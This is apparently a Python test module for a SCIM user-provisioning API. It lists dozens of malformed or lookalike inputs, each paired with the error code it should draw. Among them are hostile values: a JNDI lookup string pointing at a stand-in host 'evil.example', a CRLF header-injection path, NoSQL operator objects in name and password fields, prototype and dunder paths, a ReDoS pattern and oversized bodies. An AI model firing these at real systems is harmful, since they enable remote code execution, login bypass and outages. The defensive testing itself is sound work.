"""Names that look like others, names of what programs are made of, and values of every wrong type."""

import json

from rows import BEARER, USERS, Row, get, patch, post, search, user
from wire import request

CORE = "urn:ietf:params:scim:schemas:core:2.0:User"
ENTERPRISE = "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User"


def person(**fields: object) -> bytes:
    return post(json.dumps({"schemas": [CORE], "userName": "bjensen", **fields}).encode())


def set_path(path: object) -> bytes:
    return patch({"op": "replace", "path": path, "value": "x"})


NAMES = {
    "a Cyrillic a in userName": Row(post('{"userN\u0430me":"bjensen"}'.encode()), "SG202"),
    "userName in full width": Row(post('{"\uff55\uff53\uff45\uff52\uff2e\uff41\uff4d\uff45":"x"}'.encode()), "SG202"),
    "a blank before userName": Row(post(b'{" userName":"bjensen"}'), "SG202"),
    "userName and no end of it": Row(post(b'{"userName\\u0000":"bjensen"}'), "SG202"),
    "a Kelvin sign for a k, in a path": Row(set_path("nic\u212aName"), "SG401"),
    "a long s for an s, in a path": Row(set_path("u\u017ferName"), "SG401"),
    "a dotless i, in a path": Row(set_path("t\u0131tle"), "SG401"),
    "a zero-width joiner, in a path": Row(set_path("user\u200dName"), "SG401"),
    "an override of direction, in a path": Row(set_path("\u202euserName"), "SG401"),
    "a Kelvin sign for a k, in a filter": Row(search('nic\u212aName eq "a"'), "SG301"),
    "a long s for an s, in a filter": Row(search('u\u017ferName eq "a"'), "SG301"),
    "an operator in full width": Row(search('userName \uff45\uff51 "a"'), "SG301"),
    "a no-break space": Row(search('userName\u00a0eq\u00a0"a"'), "SG301"),
    "an id in full width": Row(get(f"{USERS}/%EF%BD%95-1"), "SG110"),
    "an id with a zero-width space": Row(get(f"{USERS}/u%E2%80%8B-1"), "SG110"),
    "an id in another normal form": Row(get(f"{USERS}/e%CC%81"), "SG110"),
    "an id that runs the other way": Row(get(f"{USERS}/%E2%80%AEu-1"), "SG110"),
    "a type with a Cyrillic e": Row(get("/acme/scim/v2/Us%D0%B5rs"), "SG106"),
    "a tenant in full width": Row(get("/%EF%BD%81cme/scim/v2/Users"), "SG103"),
    "what objects are made of, in a path": Row(set_path("__class__"), "SG401"),
    "what functions are made of, in a path": Row(set_path("name.__init__.__globals__"), "SG401"),
    "a constructor, in a path": Row(set_path("constructor.prototype"), "SG401"),
    "a prototype, in a filter": Row(search('__proto__ eq "a"'), "SG301"),
    "what objects are made of, in a filter": Row(search('emails[__class__ eq "a"]'), "SG301"),
    "a template, in a path": Row(set_path("{{7*7}}"), "SG401"),
    "a template of a shell, in a path": Row(set_path("${jndi:ldap://evil.example/a}"), "SG401"),
    "a format, in a path": Row(set_path("{0.__class__}"), "SG401"),
    "a pattern, in a path": Row(set_path("(a+)+$"), "SG401"),
    "an address of JSONPath": Row(set_path("$.userName"), "SG401"),
    "an index in brackets": Row(set_path("emails[0]"), "SG301"),
    "empty brackets": Row(set_path("emails[]"), "SG301"),
    "an index after a dot": Row(set_path("emails.0"), "SG401"),
    "a dot alone": Row(set_path("."), "SG401"),
    "a dot at the end": Row(set_path("name."), "SG401"),
    "a colon before": Row(set_path(":userName"), "SG401"),
    "a URN and a colon, of nobody": Row(set_path("urn:nobody:"), "SG401"),
    "a URN of another type": Row(set_path("urn:ietf:params:scim:schemas:core:2.0:Group:displayName"), "SG401"),
    "members of a user": Row(patch({"op": "remove", "path": 'members[value eq "u-1"]'}), "SG401"),
    "a path of ten thousand letters": Row(set_path("a" * 10_000), "SG401"),
    "a path of ten thousand dots": Row(set_path("a." * 10_000), "SG401"),
    "a path that ends a line": Row(set_path("userName\r\nX-Evil: 1"), "SG401"),
    "a path with NUL": Row(set_path("userName\x00"), "SG401"),
    "a path that is a list": Row(set_path(["userName"]), "SG401"),
    "a path that is true": Row(set_path(True), "SG401"),
}

TYPES = {
    "a name that is a text": Row(person(name="Barbara Jensen"), "SG202"),
    "a name that is a list": Row(person(name=[{"givenName": "Barbara"}]), "SG202"),
    "a given name that is an object": Row(person(name={"givenName": {"$gt": ""}}), "SG202"),
    "a given name that is a number": Row(person(name={"givenName": 5}), "SG202"),
    "e-mails that are a number": Row(person(emails=5), "SG202"),
    "e-mails inside e-mails": Row(person(emails=[[{"value": "a"}]]), "SG202"),
    "an e-mail that is a number": Row(person(emails=[5]), "SG202"),
    "an e-mail whose value is a list": Row(person(emails=[{"value": ["a"]}]), "SG202"),
    "a primary that is perhaps": Row(person(emails=[{"value": "a", "primary": "perhaps"}]), "SG202"),
    "active that is perhaps": Row(person(active="perhaps"), "SG202"),
    "active that is two": Row(person(active=2), "SG202"),
    "active that is a list": Row(person(active=[True]), "SG202"),
    "an externalId that is a number": Row(person(externalId=5), "SG202"),
    "a password that is an object": Row(person(password={"$ne": None}), "SG202"),
    "an extension that is a text": Row(person(**{ENTERPRISE: "Tours"}), "SG202"),
    "an extension that is a list": Row(person(**{ENTERPRISE: [{"department": "Tours"}]}), "SG202"),
    "an extension in two letter cases": Row(
        person(**{ENTERPRISE: {"department": "a"}, ENTERPRISE.upper(): {"department": "b"}}), "SG201"
    ),
    "a part in two letter cases": Row(person(name={"givenName": "a", "GIVENNAME": "b"}), "SG201"),
    "a part twice, once with a dot": Row(person(**{"name": {"givenName": "a"}, "name.givenName": "b"}), "SG201"),
    "schemas that are an object": Row(person(schemas={"0": CORE}), "SG201"),
    "schemas that are numbers": Row(person(schemas=[1]), "SG201"),
    "a whole number of thirty digits": Row(person(externalId=10**30), "SG201"),
    "a userName that is false": Row(post(user("false")), "SG202"),
    "one thousand keys in two letter cases": Row(
        post(b"{" + b",".join(b'"k%d":1,"K%d":1' % (n, n) for n in range(1000)) + b"}"), "SG202"
    ),
    "an empty object": Row(post(b"{}"), "SG202"),
    "a byte order mark and nothing": Row(post(b"\xef\xbb\xbf"), "SG201"),
    "two byte order marks": Row(post(b"\xef\xbb\xbf\xef\xbb\xbf{}"), "SG201"),
    "UTF-16 that is called JSON": Row(post('{"userName":"b"}'.encode("utf-16-le")), "SG201"),
    "UTF-32": Row(post('{"userName":"b"}'.encode("utf-32")), "SG201"),
    "NUL between": Row(post(b'{"userName":\x00"b"}'), "SG201"),
    "a comma at the end": Row(post(b'{"userName":"b",}'), "SG201"),
    "a comment": Row(post(b'{"userName":"b" /* me */}'), "SG201"),
    "single quotes": Row(post(b"{'userName':'b'}"), "SG201"),
    "a number with a zero before it": Row(post(user("007")), "SG201"),
    "minus infinity": Row(post(user("-Infinity")), "SG201"),
    "a tab inside a text": Row(post(b'{"userName":"a\tb"}'), "SG201"),
    "an escape of nothing": Row(post(b'{"userName":"\\x41"}'), "SG201"),
    "a thousand lists in turn": Row(post(user("[" + "[]," * 100_000 + "[]]")), "SG202"),
    "a key of a megabyte": Row(post(b'{"' + b"k" * 1_000_000 + b'":1}'), "SG202"),
    "a PUT of nothing": Row(request("PUT", f"{USERS}/u-1", b"", BEARER), "SG201"),
    "a PUT of a list": Row(request("PUT", f"{USERS}/u-1", b"[]", BEARER), "SG201"),
    "a PUT without a userName": Row(request("PUT", f"{USERS}/u-1", b'{"active":true}', BEARER), "SG202"),
    "a POST without a length": Row(request("POST", USERS, None, BEARER), "SG201"),
}
